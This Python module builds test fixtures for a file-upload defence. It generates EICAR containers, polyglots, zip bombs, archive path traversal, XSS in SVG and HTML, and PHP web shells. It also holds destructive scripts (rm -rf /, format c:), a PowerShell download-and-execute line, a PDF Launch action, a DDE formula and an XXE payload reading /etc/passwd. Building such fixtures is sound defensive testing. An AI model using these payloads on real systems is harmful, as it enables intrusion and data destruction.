# ruff: noqa: E501 - the files are byte literals, kept on one line each
"""A corpus of hostile files, generated here (nothing downloaded): the EICAR test string in several
containers, polyglots, double extensions, hostile names (NUL and control characters, ``../``,
absolute paths, very long names), archive bombs and path traversal, deeply nested archives, SVG and
HTML with scripts disguised as images or documents, executables and scripts, hostile PDFs and office
files, zero-byte and oversize files.

Each file says whether it must be refused whatever the rules (``must_refuse``); every other file may
be refused or accepted, but an accepted one must be stored inert (see the corpus tests).
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import warnings
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

# The EICAR anti-virus test string, assembled so that this source file is not itself a match.
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS" + "-TEST-FILE!$H+H*").encode()
# The signature the clamd test loads (its own .ndb file: no signature download here).
EICAR_NDB = f"Cnilcase-Test-Eicar:0:*:{EICAR.hex()}\n"

PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
)
HTML = (
    b"<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(document.cookie)</script></body></html>\n"
)
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>\n"
)
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
    + b"\x00" * 43
    + struct.pack("<I", 64)
    + b"PE\x00\x00\x4c\x01"
    + b"\x00" * 200
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 100
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
MB = 1024 * 1024


def png(extra_chunks: bytes = b"", width: int = 1, height: int = 1) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(b"\x00\x00"))
    return b"\x89PNG\r\n\x1a\n" + header + extra_chunks + pixels + chunk(b"IEND", b"")


def png_text(text: bytes) -> bytes:
    data = b"Comment\x00" + text
    return png(
        struct.pack(">I", len(data)) + b"tEXt" + data + struct.pack(">I", zlib.crc32(b"tEXt" + data) & 0xFFFFFFFF)
    )


def pdf_document(objects: list[bytes]) -> bytes:
    """A well-formed PDF (header, objects 1…n, cross-reference table, trailer): readers parse it for real."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def pdf_with(objects: list[bytes], root_extra: bytes = b"") -> bytes:
    """A one-page PDF whose catalogue carries ``root_extra`` and whose body holds ``objects`` (5 0 obj on)."""
    return pdf_page_with_content(b"BT (x) Tj ET", root_extra=root_extra, extra=objects)


def pdf_stream(data: bytes, *, flate: bool = False) -> bytes:
    if flate:
        data = zlib.compress(data, 9)
        return b"<< /Length %d /Filter /FlateDecode >> stream\n" % len(data) + data + b"\nendstream"
    return b"<< /Length %d >> stream\n" % len(data) + data + b"\nendstream"


def pdf_page_with_content(content: bytes, *, flate: bool = True, root_extra: bytes = b"", extra=()) -> bytes:
    """A one-page PDF whose page content stream is ``content`` (what the text extractor reads)."""
    return pdf_document(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + root_extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
            pdf_stream(content, flate=flate),
            *extra,
        ]
    )


def zip_of(entries: list[tuple[str, bytes]], *, compression=zipfile.ZIP_DEFLATED, comment: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries:
            archive.writestr(name, data)
        archive.comment = comment
    return buffer.getvalue()


def zip_entry_info(name: str, *, mode: int | None = None) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    if mode is not None:
        info.create_system = 3
        info.external_attr = mode << 16
    return info


def zip_bomb(megabytes: int, name: str = "zeros.bin") -> bytes:
    """One entry that inflates to ``megabytes`` MiB of zeros (a few KiB per MiB compressed)."""
    buffer = io.BytesIO()
    zero = bytes(MB)
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(zip_entry_info(name), "w", force_zip64=True) as entry,
    ):
        for _ in range(megabytes):
            entry.write(zero)
    return buffer.getvalue()


def zip_nested_bomb(levels: int, copies: int, megabytes: int) -> bytes:
    """42.zip-like: ``copies`` copies of the level below at each level, a bomb at the bottom."""
    data = zip_bomb(megabytes)
    for level in range(levels):
        data = zip_of([(f"{level}-{i}.zip", data) for i in range(copies)])
    return data


def nested_zip(depth: int, inner: bytes = b"bottom\n") -> bytes:
    data = inner
    for level in range(depth):
        data = zip_of([(f"level-{level}.zip" if level else "bottom.txt", data)])
    return data


def tar_of(entries: list[tuple[str, bytes]], *, mode: str = "w", symlinks: tuple[tuple[str, str], ...] = ()) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, target in symlinks:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            archive.addfile(info)
    return buffer.getvalue()


def office(kind: str, part: str, content: bytes, extra: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    """A minimal OOXML package (docx or xlsx) whose main part holds ``content``."""
    content_type = {
        "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    }[kind]
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    ).encode()
    rels = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
    return zip_of([("[Content_Types].xml", types), ("_rels/.rels", rels), (part, content), *extra])


def compressed_bomb(compress, megabytes: int) -> bytes:
    return compress(bytes(megabytes * MB))


def mail_with_attachment(name: str, data: bytes) -> bytes:
    encoded = base64.encodebytes(data).decode()
    return (
        "From: dpo@example.org\r\nTo: cnil@example.fr\r\nSubject: Pièces\r\nDate: Mon, 7 Dec 2026 10:00:00 +0100\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\n'
        "Content-Type: text/plain; charset=utf-8\r\n\r\nCi-joint.\r\n--b1\r\n"
        f'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="{name}"\r\n'
        f"Content-Transfer-Encoding: base64\r\n\r\n{encoded}\r\n--b1--\r\n"
    ).encode()


@dataclass(frozen=True)
class Hostile:
    category: str
    name: str
    content: bytes
    must_refuse: bool = False
    eicar: bool = False  # holds the EICAR string (in a form a scanner may find)


@cache
def corpus(limit: int) -> tuple[Hostile, ...]:
    """Every hostile file, for an upload limit of ``limit`` bytes (the oversize ones are just over it)."""
    files: list[Hostile] = []

    def add(category, name, content, must_refuse=False, eicar=False):
        files.append(Hostile(category, name, content, must_refuse, eicar))

    # --- EICAR in several containers ---------------------------------------------------------
    for name in ("eicar.com", "eicar.txt", "eicar", "eicar.pdf", "facture.pdf.exe"):
        add("eicar", name, EICAR, eicar=True)
    add("eicar", "eicar-crlf.txt", EICAR + b"\r\n", eicar=True)
    add("eicar", "eicar.zip", zip_of([("eicar.com", EICAR)]), eicar=True)
    add("eicar", "eicar-stored.zip", zip_of([("eicar.com", EICAR)], compression=zipfile.ZIP_STORED), eicar=True)
    add("eicar", "eicar-in-zip-in-zip.zip", zip_of([("inner.zip", zip_of([("eicar.com", EICAR)]))]), eicar=True)
    add("eicar", "eicar-nested-5.zip", nested_zip(5, EICAR), eicar=True)
    add("eicar", "eicar.docx", zip_of([("[Content_Types].xml", b"<Types/>"), ("word/eicar.com", EICAR)]), eicar=True)
    add("eicar", "eicar.txt.gz", gzip.compress(EICAR), eicar=True)
    add("eicar", "eicar.tar", tar_of([("eicar.com", EICAR)]), eicar=True)
    add("eicar", "eicar.tar.gz", gzip.compress(tar_of([("eicar.com", EICAR)])), eicar=True)
    add("eicar", "eicar-stream.pdf", pdf_with([pdf_stream(EICAR)]), eicar=True)
    add("eicar", "eicar-attachment.eml", mail_with_attachment("eicar.com", EICAR), eicar=True)
    add("eicar", "eicar-after.gif", GIF + EICAR, eicar=True)
    add("eicar", "eicar-after.png", png() + EICAR, eicar=True)
    add("eicar", "eicar.csv", b"id;note\n1;" + EICAR + b"\n", eicar=True)
    add("eicar", "eicar-base64.txt", base64.b64encode(EICAR) + b"\n")  # encoded: no scanner is expected to see it
    add("eicar", "eicar-utf16.txt", EICAR.decode().encode("utf-16"))

    # --- Polyglots -----------------------------------------------------------------------------
    add("polyglot", "pdf-html.pdf", PDF + HTML)
    add("polyglot", "pdf-html.html", PDF + HTML)
    add("polyglot", "html-pdf.pdf", HTML + PDF, must_refuse=True)
    add("polyglot", "gif-js.gif", b"GIF89a/*\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff*/=alert(1);//;")
    add("polyglot", "gif-js.js", b"GIF89a/*\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff*/=alert(1);//;")
    add("polyglot", "gif-html.gif", GIF + HTML)
    add("polyglot", "png-html.png", png_text(HTML))
    add("polyglot", "png-html.html", png() + HTML)
    add("polyglot", "jpeg-html.jpg", JPEG[:-2] + b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML + b"\xff\xd9")
    add("polyglot", "pdf-zip.pdf", PDF + zip_of([("x.html", HTML)]))
    add("polyglot", "zip-pdf.zip", zip_of([("x.pdf", PDF)]) + PDF)
    add(
        "polyglot",
        "gifar.gif",
        GIF + zip_of([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"), ("A.class", b"\xca\xfe\xba\xbe")]),
    )
    add("polyglot", "pdf-pe.pdf", PDF + PE)
    add("polyglot", "pe-pdf.pdf", PE + PDF, must_refuse=True)
    add("polyglot", "svg-in-pdf.pdf", PDF + SVG)
    add("polyglot", "html-in-zip-comment.zip", zip_of([("a.txt", b"a")], comment=HTML))

    # --- Double extensions -------------------------------------------------------------------
    for name, content, refuse in (
        ("facture.pdf.exe", PE, True),
        ("facture.pdf.exe", PDF + b"%1\n", False),
        ("photo.jpg.html", HTML, True),
        ("photo.jpg.html", JPEG, False),
        ("document.pdf.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n", False),
        ("lisezmoi.txt.bat", b"@echo off\r\ndel /q C:\\*\r\n", False),
        ("lisezmoi.txt.cmd", b"@echo off\r\nformat c: /q\r\n", False),
        ("image.png.svg", SVG, True),
        ("image.svg.png", SVG, True),
        ("rapport.html.pdf", HTML, True),
        ("avatar.php.jpg", b"<?php system($_GET['c']); ?>\n", True),
        ("avatar.jpg.php", JPEG + b"<?php system($_GET['c']); ?>", False),
        ("scan.pdf.scr", PE, True),
        ("contrat.docx.exe", PE, True),
        ("note.txt.vbs", b'CreateObject("WScript.Shell").Run "calc"\r\n', False),
        ("note.txt.ps1", b"Invoke-WebRequest http://example.invalid/x | iex\n", False),
        ("page.txt.hta", b"<html><hta:application/><script>new ActiveXObject('WScript.Shell')</script></html>", True),
        ("archive.zip.exe", PE, True),
        ("export.csv.exe", b"a;b\n1;2\n", False),
        ("photo.jpeg.jar", zip_of([("META-INF/MANIFEST.MF", b"Main-Class: A\n")]), False),
        ("courrier.eml.mht", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML, False),
        (
            "scan.pdf.lnk",
            b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 60,
            True,
        ),
    ):
        add("double-extension", name, content, must_refuse=refuse)

    # --- Hostile names (the content is an ordinary PDF: only the name is hostile) ---------------
    def named(name: str) -> None:
        add("name", name, PDF + f"% {len(files)}\n".encode())

    for code in [*range(1, 32), 127]:
        named(f"pv{chr(code)}controle.pdf")
    named("pv\x00.pdf")
    named("malware.exe\x00.pdf")
    named("\x00")
    for code in (0x85, 0x9B):  # C1 controls: NEL, CSI
        named(f"pv{chr(code)}.pdf")
    named("facture\u202efdp.exe")  # right-to-left override: displays as "facture exe.pdf"
    named("pv\u200b\u200d\ufeff.pdf")  # zero-width characters and BOM
    named("pv\u2028ligne.pdf")  # line separator
    named("../../../../etc/passwd")
    named("../../evidence/sha256/00/00/0000.pdf")
    named("..\\..\\windows\\system32\\drivers\\etc\\hosts")
    named("/etc/shadow")
    named("C:\\Windows\\win.ini")
    named("\\\\serveur\\partage\\pv.pdf")
    named("....//....//pv.pdf")
    named("%2e%2e%2f%2e%2e%2fpv.pdf")
    named("..")
    named(".")
    named("...")
    named("")
    named("   ")
    named(".htaccess")
    named("~/.ssh/authorized_keys")
    named("pv.pdf\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>")
    named('pv".pdf')
    named("pv.pdf; filename=evil.html")
    named("<script>alert(1)</script>.pdf")
    named("<img src=x onerror=alert(1)>.pdf")
    named("{{7*7}}${7*7}.pdf")
    named("CON.pdf")
    named("pv.pdf ")
    named("pv.pdf.")
    named("ﬁchier\uff0e\uff0e\uff0fpv.pdf")  # compatibility characters (ligature, fullwidth dots and slash)
    named("a" * 255 + ".pdf")
    named("a" * 1000 + ".pdf")
    named("b" * 10000)
    named("é" * 300 + ".pdf")
    named("📄" * 200 + ".pdf")
    named("pv." + "x" * 300)  # an "extension" hundreds of characters long
    named("pv." + "é" * 120)  # a long multibyte extension (the temporary file's suffix)

    # --- Archives: bombs, traversal, nesting -------------------------------------------------
    add("archive", "bombe-64M.zip", zip_bomb(64))
    add("archive", "bombe-imbriquee.zip", zip_nested_bomb(levels=2, copies=8, megabytes=16))
    add("archive", "bombe-document.docx", _office_bomb("docx", 300))
    add("archive", "bombe-classeur.xlsx", _office_bomb("xlsx", 300))
    add("archive", "bombe.gz", compressed_bomb(lambda data: gzip.compress(data, 9), 64), must_refuse=True)
    add("archive", "bombe.bz2", compressed_bomb(lambda data: bz2.compress(data, 9), 64), must_refuse=True)
    add("archive", "bombe.xz", compressed_bomb(lzma.compress, 64), must_refuse=True)
    add("archive", "traversal.zip", zip_of([("../../../../tmp/cnilcase-pwned.txt", b"pwned")]))
    add("archive", "traversal-absolute.zip", zip_of([("/etc/cron.d/cnilcase", b"* * * * * root id\n")]))
    add("archive", "traversal-windows.zip", zip_of([("..\\..\\Windows\\System32\\evil.dll", PE)]))
    add("archive", "traversal-drive.zip", zip_of([("C:/Windows/evil.dll", PE)]))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zip_entry_info("lien", mode=0o120777), "/etc/passwd")
        archive.writestr(zip_entry_info("lien/../../x.txt"), "x")
    add("archive", "symlink.zip", buffer.getvalue())
    add("archive", "traversal.tar", tar_of([("../../../tmp/cnilcase-pwned.txt", b"pwned")]), must_refuse=True)
    add("archive", "symlink.tar", tar_of([], symlinks=(("passwd", "/etc/passwd"),)), must_refuse=True)
    add("archive", "traversal.tar.gz", gzip.compress(tar_of([("/etc/cron.d/x", b"x")])), must_refuse=True)
    add("archive", "imbrique-10.zip", nested_zip(10))
    add("archive", "imbrique-50.zip", nested_zip(50))
    add("archive", "imbrique-200.zip", nested_zip(200))
    add("archive", "imbrique-tar-gz-zip.zip", zip_of([("x.tar.gz", gzip.compress(tar_of([("y.zip", nested_zip(3))])))]))
    add("archive", "milliers-entrees.zip", zip_of([(f"f{i}.txt", b"") for i in range(3000)]))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # the duplicate name is the point
        add("archive", "doublons.zip", zip_of([("a.txt", b"1"), ("a.txt", b"2")]))
    add("archive", "noms-hostiles.zip", zip_of([("a\u202etxt.exe", b"x"), ("con", b"x"), ("x" * 250, b"x")]))
    add("archive", "quine-like.zip", zip_of([("self.zip", zip_of([("self.zip", b"PK\x03\x04" * 10)]))]))

    # --- Active content: SVG, HTML, XML disguised as images or documents -----------------------
    for name in ("dessin.svg", "dessin.png", "dessin.jpg", "dessin.gif", "dessin.pdf", "dessin.txt"):
        add("svg", name, SVG, must_refuse=True)
    add("svg", "decl.svg", b'<?xml version="1.0" encoding="UTF-8"?>\n' + SVG, must_refuse=True)
    add("svg", "bom.svg", b"\xef\xbb\xbf" + SVG, must_refuse=True)
    add("svg", "doctype.svg", b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">\n' + SVG, must_refuse=True)
    add(
        "svg",
        "foreign.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>',
        must_refuse=True,
    )
    add("svg", "dessin.svgz", gzip.compress(SVG), must_refuse=True)
    for name in (
        "page.html",
        "photo.png",
        "photo.jpg",
        "photo.gif",
        "photo.webp",
        "scan.pdf",
        "note.txt",
        "export.csv",
        "page.htm",
    ):
        add("html", name, HTML, must_refuse=True)
    add("html", "espaces.png", b"\n\n   \t" + HTML, must_refuse=True)
    add("html", "bom.jpg", b"\xef\xbb\xbf" + HTML, must_refuse=True)
    add("html", "majuscules.png", HTML.upper(), must_refuse=True)
    add("html", "script-seul.gif", b"<script>alert(1)</script>", must_refuse=True)
    add("html", "iframe.pdf", b"<iframe src='https://example.invalid'></iframe><html>", must_refuse=True)
    add(
        "html",
        "xhtml.png",
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
        must_refuse=True,
    )
    add("html", "apres-8k.txt", b" " * 9000 + HTML)  # beyond the sniffed bytes: must still never render
    add(
        "html",
        "xslt.xml",
        b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:,x"?><r/>',
        must_refuse=True,
    )
    add(
        "html",
        "flux.rss",
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>',
        must_refuse=True,
    )
    add(
        "html",
        "mhtml.mht",
        b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n'
        + HTML
        + b"\r\n--b--\r\n",
    )

    # --- Executables and scripts -----------------------------------------------------------------
    for name, content, refuse in (
        ("programme.exe", PE, True),
        ("bibliotheque.dll", PE, True),
        ("binaire", ELF, True),
        ("macho", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00" + b"\x00" * 64, True),
        ("Classe.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 40, True),
        ("script.sh", b"#!/bin/sh\nrm -rf / --no-preserve-root\n", True),
        ("script.py", b"#!/usr/bin/env python3\nimport os\nos.system('id')\n", True),
        ("script.pl", b"#!/usr/bin/perl\nsystem('id');\n", True),
        ("page.php", b"<?php echo shell_exec($_GET['c']); ?>\n", True),
        ("module.wasm", b"\x00asm\x01\x00\x00\x00", True),
        ("anim.swf", b"FWS\x0a" + b"\x00" * 40, False),
        ("lanceur.desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c id\n", False),
        ("raccourci.url", b"[InternetShortcut]\nURL=file:///C:/Windows/System32/calc.exe\n", False),
        ("registre.reg", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n", False),
        ("appli.apk", zip_of([("AndroidManifest.xml", b"\x03\x00\x08\x00"), ("classes.dex", b"dex\n035\x00")]), False),
        ("installeur.msi", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, False),
        ("paquet.deb", b"!<arch>\ndebian-binary   0           0     0     100644  4         `\n2.0\n", True),
    ):
        add("executable", name, content, must_refuse=refuse)

    # --- Hostile PDFs and office files (documents that are what they claim, with active parts) ---
    add("pdf", "openaction-js.pdf", pdf_with([b"<< /S /JavaScript /JS (app.alert(1)) >>"], b"/OpenAction 5 0 R"))
    add(
        "pdf",
        "launch.pdf",
        pdf_with([b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"], b"/OpenAction 5 0 R"),
    )
    add(
        "pdf",
        "fichier-joint.pdf",
        pdf_with(
            [pdf_stream(EICAR), b"<< /Type /Filespec /F (e.com) /EF << /F 5 0 R >> >>"],
            b"/Names << /EmbeddedFiles << /Names [(e.com) 6 0 R] >> >>",
        ),
        eicar=True,
    )
    add(
        "pdf",
        "xfa.pdf",
        pdf_with([pdf_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")], b"/AcroForm << /XFA 5 0 R >>"),
    )
    add("pdf", "bombe-flate.pdf", pdf_page_with_content(bytes(200 * MB)))
    add("pdf", "bombe-flate-texte.pdf", pdf_page_with_content(b"BT /F1 12 Tf " + b"(A) Tj " * (30 * MB // 7) + b"ET"))
    add("pdf", "texte-geant.pdf", pdf_page_with_content(b"BT /F1 12 Tf (" + b"A" * (20 * MB) + b") Tj ET"))
    add("pdf", "tableaux-imbriques.pdf", pdf_page_with_content(b"[" * 50000 + b"]" * 50000 + b" BT (x) Tj ET"))
    add("pdf", "pages-annoncees.pdf", pdf_with([]).replace(b"/Count 1", b"/Count 2147483647"))
    add("pdf", "tronque.pdf", pdf_page_with_content(b"BT (x) Tj ET")[:300])
    add(
        "pdf",
        "references-circulaires.pdf",
        pdf_document(
            [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"]
        ),
    )
    add(
        "office",
        "macro.docm",
        zip_of([("[Content_Types].xml", b"<Types/>"), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 60)]),
    )
    add("office", "formule-dde.csv", b"nom;montant\n=cmd|' /C calc'!A0;1\n+HYPERLINK(\"http://example.invalid\");2\n")
    add(
        "office",
        "classeur-xxe.xlsx",
        office(
            "xlsx",
            "xl/worksheets/sheet1.xml",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet>&e;</worksheet>',
        ),
    )
    add(
        "office",
        "document-xxe.docx",
        office(
            "docx",
            "word/document.xml",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><document>&e;</document>',
        ),
    )
    add(
        "office",
        "ole-macro.doc",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 504
        + b'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nShell "calc"\nEnd Sub\n',
    )
    add(
        "office",
        "courriel-html.eml",
        b"From: a@example.org\r\nTo: b@example.fr\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
        + HTML,
    )

    # --- Images with hostile parts -----------------------------------------------------------------
    add("image", "dimensions-geantes.png", png(width=100000, height=100000))
    add("image", "commentaire-script.gif", GIF[:-1] + b"!\xfe\x1a<script>alert(1)</script>\x00;")
    add(
        "image",
        "exif-script.jpg",
        JPEG[:2] + b"\xff\xe1\x00\x2aExif\x00\x00<script>alert(1)</script>......." + JPEG[2:],
    )
    add("image", "tronquee.png", png()[:30])
    add("image", "tiff.tif", b"II*\x00\x08\x00\x00\x00\x00\x00" + HTML)
    add("image", "webp-html.webp", b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + b"\x00" * 24 + HTML)

    # --- Sizes ---------------------------------------------------------------------------------------
    for name in ("vide.pdf", "vide.txt", "vide.zip", "vide", "vide.exe"):
        add("size", name, b"", must_refuse=True)
    add("size", "trop-gros.pdf", PDF + b"%" + b"0" * (limit - len(PDF)), must_refuse=True)
    add("size", "trop-gros.txt", b"a" * (limit + 1), must_refuse=True)
    add("size", "bien-trop-gros.bin", bytes(limit * 3), must_refuse=True)
    add("size", "a-la-limite.pdf", PDF + b"%" + b"0" * (limit - len(PDF) - 2) + b"\n")
    add("size", "un-octet.txt", b"a")
    return tuple(files)


def _office_bomb(kind: str, megabytes: int) -> bytes:
    """An office document whose main part inflates to ``megabytes`` MiB (the text extractor's zip check)."""
    main = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml"}[kind]
    buffer = io.BytesIO()
    base = office(kind, main, b"<x/>")
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
    ):
        for info in source.infolist():
            if info.filename == main:
                with archive.open(zip_entry_info(main), "w", force_zip64=True) as entry:
                    entry.write(b"<x>")
                    spaces = b" " * MB
                    for _ in range(megabytes):
                        entry.write(spaces)
                    entry.write(b"</x>")
            else:
                archive.writestr(info.filename, source.read(info.filename))
    return buffer.getvalue()
